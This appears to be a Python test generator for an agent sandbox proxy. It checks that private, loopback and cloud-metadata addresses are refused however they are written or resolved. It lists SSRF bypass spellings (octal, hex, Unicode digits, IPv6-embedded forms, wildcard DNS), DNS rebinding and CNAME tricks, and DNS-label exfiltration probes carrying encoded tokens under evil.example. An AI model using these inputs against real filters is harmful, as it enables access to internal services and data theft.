"""Addresses that nobody may reach: as literals in every spelling, and as what a granted name resolves to."""

import ipaddress

from rows import PLAIN, add, refused, request

# The table of the security design, written down once more; the proxy's own copy is not read here.
V4 = """0.0.0.0/8 10.0.0.0/8 100.64.0.0/10 127.0.0.0/8 169.254.0.0/16 172.16.0.0/12 192.0.0.0/24 192.0.2.0/24
192.31.196.0/24 192.52.193.0/24 192.88.99.0/24 192.168.0.0/16 192.175.48.0/24 198.18.0.0/15 198.51.100.0/24
203.0.113.0/24 224.0.0.0/4 240.0.0.0/4 255.255.255.255/32 168.63.129.16/32 100.100.100.200/32 192.0.0.192/32
169.254.169.254/32 169.254.170.2/32 169.254.170.23/32""".split()
V6 = """::/128 ::1/128 ::/96 ::ffff:0:0/96 ::ffff:0:0:0/96 64:ff9b::/96 64:ff9b:1::/48 100::/64 100:0:0:1::/64 fc00::/7 fe80::/10
fec0::/10 5f00::/16 ff00::/8 fd00:ec2::254/128 fd20:ce::254/128 fd00:c1::a9fe:a9fe/128 fd00:42::42/128 2001::/23
2001::/32 2001:2::/48 2001:10::/28 2001:20::/28 2001:30::/28 2001:db8::/32 2002::/16 2620:4f:8000::/48 3fff::/20
4000::/3 6000::/3 8000::/3 a000::/3 c000::/3 1000::/4 0800::/5 fd00:ec2::/32""".split()

# The addresses that attacks are after.
KEY = {
    "127.0.0.1": "this machine",
    "169.254.169.254": "the metadata service of most clouds",
    "10.0.0.1": "a private network",
    "192.168.1.1": "a home router",
    "0.0.0.0": "Linux connects it to this machine",
    "100.100.100.200": "Alibaba's metadata service",
    "168.63.129.16": "Azure's platform endpoint",
}

LITERAL = refused("ip_literal_refused")
UNSENT = {"refused": "sandbox:authority"}
NOT_HTTP = {"refused": "malformed_request"}


def ends(prefix):
    net = ipaddress.ip_network(prefix)
    return sorted({net[0], net[-1]})


def embedded(v4):
    """The IPv6 addresses that stand for an IPv4 one."""
    n = int(ipaddress.IPv4Address(v4))
    v6 = lambda number: str(ipaddress.IPv6Address(number))
    return {
        "mapped": f"::ffff:{n >> 16:x}:{n & 0xffff:x}",
        "compatible": f"::{n >> 16:x}:{n & 0xffff:x}",
        "translated": f"::ffff:0:{n >> 16:x}:{n & 0xffff:x}",
        "NAT64": v6((0x64FF9B << 96) | n),
        "local NAT64": v6((0x64FF9B0001 << 80) | n),
        "6to4": v6((0x2002 << 112) | (n << 80) | 1),
        "Teredo": v6((0x20010000 << 96) | (n ^ 0xFFFFFFFF)),
        "ISATAP": v6((0x26001F00 << 96) | (0x5EFE << 32) | n),
    }


def spellings(v4):
    """How inet_aton, URL parsers and Unicode let one write an IPv4 address: what, text, and whether it is ASCII."""
    a, b, c, d = map(int, v4.split("."))
    n = int(ipaddress.IPv4Address(v4))
    digits = lambda zero: "".join(chr(zero + int(ch)) if ch.isdigit() else ch for ch in v4)
    circled = "".join(ch if not ch.isdigit() else ("\u24ea" if ch == "0" else chr(0x245F + int(ch))) for ch in v4)
    plain = [
        ("in dotted decimal", v4),
        ("as one decimal number", str(n)),
        ("as one hexadecimal number", f"0x{n:08x}"),
        ("as one hexadecimal number in upper case", f"0X{n:08X}"),
        ("as one octal number", f"0{n:o}"),
        ("with octal parts", f"0{a:o}.0{b:o}.0{c:o}.0{d:o}"),
        ("with hexadecimal parts", f"0x{a:x}.0x{b:x}.0x{c:x}.0x{d:x}"),
        ("with parts in three bases", f"0x{a:x}.0{b:o}.{c}.{d}"),
        ("with two parts", f"{a}.{n & 0xffffff}"),
        ("with three parts", f"{a}.{b}.{n & 0xffff}"),
        ("with two parts in hexadecimal", f"0x{a:x}.0x{n & 0xffffff:x}"),
        ("with parts padded to three digits", f"{a:03}.{b:03}.{c:03}.{d:03}"),
        ("with a part padded to many digits", f"{a}.{b}.{c}.0000000000{d:o}"),
        ("with a trailing dot", v4 + "."),
        ("as a decimal number with a trailing dot", f"{n}."),
        ("as a number that wraps around 2^32", str(n + (1 << 32))),
        ("with a part that wraps around 2^8", f"{a + 256}.{b}.{c}.{d}"),
        ("with five parts", f"{v4}.{d}"),
    ]
    escaped = [
        ("with escaped dots", v4.replace(".", "%2e")),
        ("with escaped digits", f"%{ord(str(a)[0]):02x}{str(a)[1:]}.{b}.{c}.{d}"),
        ("with escaped fullwidth stops", v4.replace(".", "%ef%bc%8e")),
    ]
    unicode = [
        ("in fullwidth digits", digits(0xFF10)),
        ("in mathematical digits", digits(0x1D7D8)),
        ("in circled digits", circled),
        ("with ideographic full stops", v4.replace(".", "\u3002")),
        ("with fullwidth full stops", v4.replace(".", "\uff0e")),
        ("with a soft hyphen inside", v4.replace(".", ".\u00ad", 1)),
    ]
    return plain, escaped, unicode


def literals():
    for v4, place in KEY.items():
        plain, escaped, unicode = spellings(v4)
        for what, text in {text: what for what, text in reversed(plain)}.items():
            what, text = text, what
            add("address", "spelling", f"{v4} {what}: {text}", f"it is {place}, however it is spelled",
                request(f"{text}:<<port>>", scheme="http"), LITERAL)
        for what, text in escaped:
            add("address", "escaped", f"{v4} {what}", f"a parser that decodes hosts reads {place}",
                request(f"{text}:<<port>>", scheme="http"), NOT_HTTP, guest=UNSENT)
        for what, text in unicode:
            add("address", "unicode", f"{v4} {what}", f"compatibility mapping makes it {place}",
                request(f"{text}:<<port>>", scheme="http"), NOT_HTTP, guest=UNSENT)
        for what, text in embedded(v4).items():
            add("address", "embedded", f"{v4} as {what}: [{text}]", f"packets to it reach {place}",
                request(f"[{text}]:<<port>>", scheme="http"), LITERAL)
        dotted = f"::ffff:{v4}"
        for what, text in [("mapped and dotted", dotted), ("mapped in upper case", dotted.upper()),
                           ("mapped and written out", f"0:0:0:0:0:ffff:{v4}"), ("compatible and dotted", f"::{v4}"),
                           ("in NAT64's prefix, dotted", f"64:ff9b::{v4}")]:
            add("address", "embedded", f"{v4} {what}: [{text}]", f"packets to it reach {place}",
                request(f"[{text}]:<<port>>", scheme="http"), LITERAL)
        for what, text in [("in brackets", f"[{v4}]"), ("as an IPvFuture", f"[v4.{v4}]")]:
            add("address", "bracketed", f"{v4} {what}", f"lenient parsers take the brackets off and reach {place}",
                request(f"{text}:<<port>>", scheme="http"), LITERAL)
        for suffix in ["nip.io", "sslip.io", "traefik.me"]:
            add("address", "wildcard-dns", f"{v4}.{suffix}", f"public wildcard zones resolve it to {place}; no rule names it",
                request(f"{v4}.{suffix}:<<port>>", scheme="http"), refused("host_not_allowed"))
    seen = set()
    for prefix in V4:
        for ip in ends(prefix):
            n = int(ip)
            for what, text in [("", str(ip)), (" as a number", str(n)), (" mapped", f"[::ffff:{ip}]")]:
                if text in KEY or (what and str(ip) in KEY) or text in seen:
                    continue
                seen.add(text)
                add("address", "table-literal", f"{ip}{what}, an end of {prefix}", "the row of the table holds from end to end",
                    request(f"{text}:<<port>>", scheme="http"), LITERAL)
    seen = set()
    for prefix in V6:
        for ip in ends(prefix):
            for what, text in {str(ip): "", ip.exploded.upper(): " written out"}.items():
                what, text = text, what
                if text in seen:
                    continue
                seen.add(text)
                add("address", "table-literal", f"[{text}], an end of {prefix}{what}",
                    "the row of the table holds from end to end",
                    request(f"[{text}]:<<port>>", scheme="http"), LITERAL)
    for text in ["fe80::1%25lo", "fe80::1%25eth0", "::1%25lo", "ff02::1%251", "fe80::1%lo", "fe80::1%251"]:
        add("address", "zone", f"[{text}]", "a zone picks an interface: only this machine's own links have one",
            request(f"[{text}]:<<port>>", scheme="http"), LITERAL)
    for text in ["::1", "::ffff:127.0.0.1", "fe80::1", "0:0:0:0:0:0:0:1"]:
        add("address", "unbracketed", f"{text} without brackets", "colons outside of brackets are a port to some and an address to others",
            request(text, scheme="http"), NOT_HTTP, guest=UNSENT)
    for text, what in [("[::1", "no closing bracket"), ("::1]", "no opening bracket"), ("[]", "nothing in brackets"),
                       ("[::1].example.com", "a name after the bracket"), ("[[::1]]", "brackets twice"),
                       ("[::1]x", "something after the bracket"), ("[::1%00]", "an escaped NUL in brackets")]:
        add("address", "brackets", f"{text}: {what}", "a parser that repairs it reaches this machine",
            request(text, scheme="http"), NOT_HTTP if text in ("[::1", "::1]", "[[::1]]") else LITERAL, guest=UNSENT if text in ("[::1", "::1]", "[[::1]]") else None)
    for text in ["1.1.1.1", "8.8.8.8", "[2606:4700:4700::1111]", "16843009", "0x08080808", "93.184.216.34"]:
        for scheme in ["http", "https"]:
            add("address", "public-literal", f"{scheme}://{text}", "a public address is no name, so no rule can have granted it",
                request(text, scheme=scheme), LITERAL)


NOT_REACHED = refused("address_refused")


def name(number):
    return f"a{number:03}.dns.example.com"


def answers():
    """What a granted name resolves to. The name server answers each question with the next of these lists."""
    count, told = 0, []

    def resolve(family, what, reason, dns, expect=NOT_REACHED):
        nonlocal count
        if dns in told:
            return  # Two families came to the same.
        told.append(dns)
        add("dns", family, what, reason, request(f"{name(count)}:<<port>>", scheme="http"), expect, dns=dns)
        count += 1

    seen = set()
    for prefix in V4 + V6:
        for ip in ends(prefix):
            if ip in seen:
                continue
            seen.add(ip)
            record = "A" if ip.version == 4 else "AAAA"
            resolve("table-answer", f"{record} {ip}, an end of {prefix}", "a granted name leads where nobody may go",
                    {record: [[str(ip)]]})
    for v4, place in KEY.items():
        for form, text in embedded(v4).items():
            resolve("embedded-answer", f"AAAA {text}, {v4} as {form}", f"packets to it reach {place}", {"AAAA": [[text]]})
    good4, good6 = "1.1.1.1", "2606:4700:4700::1111"
    for v4 in KEY:
        for order in [[good4, v4], [v4, good4], [good4, v4, "8.8.8.8"]]:
            resolve("mixed", f"A {' '.join(order)}", "one bad answer refuses the name: which one is dialled would be chance",
                    {"A": [order]})
        resolve("mixed", f"A {good4} and AAAA ::ffff:{v4}", "both families are judged before either is dialled",
                {"A": [[good4]], "AAAA": [[f"::ffff:{v4}"]]})
        resolve("mixed", f"A {v4} and AAAA {good6}", "both families are judged before either is dialled",
                {"A": [[v4]], "AAAA": [[good6]]})
    for v6 in ["::1", "fe80::1", "fd00:ec2::254", "fc00::1", "ff02::1"]:
        for order in [[good6, v6], [v6, good6]]:
            resolve("mixed", f"AAAA {' '.join(order)}", "one bad answer refuses the name: which one is dialled would be chance",
                    {"AAAA": [order]})
    for v4 in KEY:
        resolve("cname", f"CNAME to a name at {v4}", "an alias leads inside; what counts is the address at its end",
                {"CNAME": ["inner.evil.example"], "A": [[v4]]})
    for target in ["localhost", "metadata.google.internal", "printer.local", "db.internal", "api.example.com"]:
        resolve("cname", f"CNAME to {target}, at 127.0.0.1", "the target's name is nothing, its address is all",
                {"CNAME": [target], "A": [["127.0.0.1"]]})
    for length in [2, 5, 8]:
        resolve("cname", f"{length} aliases to 10.0.0.1", "a chain is followed to its end, and that is judged",
                {"CNAME": [f"c{n}.evil.example" for n in range(length)], "A": [["10.0.0.1"]]})
    for length in [9, 12, 20]:
        resolve("cname", f"{length} aliases to a public address", "no real service has so many: a loop in the making",
                {"CNAME": [f"c{n}.evil.example" for n in range(length)], "A": [[good4]]}, refused("dns_failed"))
    resolve("cname", "an alias that leads back to itself", "the chain has no end, and no address", {"CNAME": ["<<self>>"]}, refused("dns_failed"))
    # Space that IANA has given to nobody: dialling it reaches nothing, and it is in no row of the table.
    nowhere = "2e00::1"
    for v4, place in KEY.items():
        resolve("rebinding", f"first {nowhere}, then {v4}, both with TTL 0",
                f"resolved once: the second answer, {place}, must never be asked for",
                {"AAAA": [[nowhere], [f"::ffff:{v4}"]], "A": [[], [v4]], "once": True}, refused("connect_failed"))
        resolve("rebinding", f"first {v4}, then a public address", "the first answer decides, and it is bad",
                {"A": [[v4], [good4]], "once": True})
    for size in [33, 64, 120, 400]:
        resolve("giant", f"{size} addresses, all public", "no real service has so many: memory, and a scan of a network",
                {"A": [[f"9.9.{n // 250}.{n % 250 + 1}" for n in range(size)]]}, refused("dns_failed"))
        resolve("giant", f"{size - 1} public addresses and 127.0.0.1 at the end", "the bad one hides behind the many",
                {"A": [[f"9.9.{n // 250}.{n % 250 + 1}" for n in range(size - 1)] + ["127.0.0.1"]]}, refused("dns_failed"))
    for word in ["NXDOMAIN", "SERVFAIL", "REFUSED", "EMPTY", "GARBAGE", "OTHERNAME"]:
        resolve("broken", f"the name server answers {word}", "what is no answer leads nowhere",
                {"says": word}, refused(["dns_failed", "timeout"] if word == "GARBAGE" else "dns_failed"))


def exfiltration():
    """Names that nobody granted are never looked up: a label can carry what an agent knows."""
    for payload in ["73656372657420746f6b656e", "c2VjcmV0LXRva2Vu", "the-users-name", "x" * 63, "a.b.c.d.e.f.g.h",
                    "<<token>>", "0.1.2.3", "xn--nxasmq6b", "_dmarc", "q1w2e3r4t5"]:
        for zone in ["evil.example", "example.org", "api.example.com", "wild.example.com.evil.example"]:
            add("dns", "exfiltration", f"{payload[:24]} as a label under {zone}", "the question itself is the message: none is asked",
                request(f"{payload}.{zone}".replace("<<token>>", "token-0123456789"), scheme="https"),
                refused("host_not_allowed"), dns={"never": True})
